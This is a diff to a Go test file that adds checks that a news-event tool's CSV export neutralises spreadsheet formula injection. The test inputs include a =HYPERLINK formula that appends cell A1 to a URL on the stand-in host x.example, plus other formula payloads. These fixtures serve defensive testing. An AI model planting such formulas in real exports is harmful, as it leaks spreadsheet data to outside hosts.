@@ -3,6 +3,7 @@ package main
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"errors"
 	"fmt"
@@ -544,5 +545,76 @@ func TestLimitBeyondStorePage(t *testing.T) {
 	}
 	if _, _, err := run(t, "events", "--db", db, "--limit", "-1"); err == nil || !strings.Contains(err.Error(), "--limit") {
 		t.Errorf("--limit -1: err = %v; want one naming --limit", err)
+	}
+}
+
+// TestExportCSVFormulas: an event whose sentence and names start like a
+// formula is exported with those cells guarded, and its negative
+// coordinates as numbers.
+func TestExportCSVFormulas(t *testing.T) {
+	db := filepath.Join(t.TempDir(), "t.db")
+	ctx := context.Background()
+	st, err := sqlite.Open(ctx, db)
+	if err != nil {
+		t.Fatal(err)
+	}
+	day, _ := dateline.ParseDate("2020-01-01")
+	body := `=HYPERLINK("http://x.example","+marched")`
+	trig := strings.Index(body, "+marched")
+	a := &dateline.Article{ID: "f1", Source: "f1.txt", Headline: "Protest", Body: body, Published: day,
+		Sentences: []dateline.Sentence{{Span: dateline.Span{Field: dateline.InBody, End: len(body)}}},
+		Events: []dateline.Event{{Type: "PROTEST", Source: &dateline.EventActor{Name: "@protesters", Entity: -1, Country: "CHL"},
+			Date: day, Mode: dateline.Asserted, Quote: -1, Trigger: dateline.Span{Field: dateline.InBody, Start: trig, End: trig + 8},
+			Place: &dateline.Location{Name: "Santiago", Country: "CHL", Lat: -33.4569, Lon: -70.6483}}},
+	}
+	if _, err := st.Put(ctx, a); err != nil {
+		t.Fatal(err)
+	}
+	st.Close()
+	out, _, err := run(t, "export", "--db", db, "--format", "csv")
+	if err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("csv = %q, %v; want a header and one row", out, err)
+	}
+	got := map[string]string{}
+	for i, h := range rows[0] {
+		got[h] = rows[1][i]
+	}
+	for col, want := range map[string]string{"text": "'" + body, "source_name": "'@protesters", "event_text": "'+marched",
+		"lat": "-33.4569", "lon": "-70.6483", "place": "Santiago"} {
+		if got[col] != want {
+			t.Errorf("%s = %q; want %q", col, got[col], want)
+		}
+	}
+}
+
+// TestCSVCell: a cell a spreadsheet would run as a formula is read as text;
+// numbers, negative ones included, stay numbers.
+func TestCSVCell(t *testing.T) {
+	for _, tt := range []struct{ in, want string }{
+		{"", ""},
+		{"Russia", "Russia"},
+		{`=HYPERLINK("http://x.example/?"&A1,"click")`, `'=HYPERLINK("http://x.example/?"&A1,"click")`},
+		{"+7 killed", "'+7 killed"},
+		{"-2+3", "'-2+3"},
+		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
+		{"\t=1+1", "'\t=1+1"},
+		{"\r=1+1", "'\r=1+1"},
+		{"- Russia said", "'- Russia said"},
+		{"-", "'-"},
+		{"-33.8688", "-33.8688"},
+		{"151.2093", "151.2093"},
+		{"+3", "+3"},
+		{"-.5", "-.5"},
+		{"-1.2.3", "'-1.2.3"},
+		{"2019-05-04", "2019-05-04"},
+		{"a=b", "a=b"},
+	} {
+		if got := csvCell(tt.in); got != tt.want {
+			t.Errorf("csvCell(%q) = %q; want %q", tt.in, got, tt.want)
+		}
 	}
 }
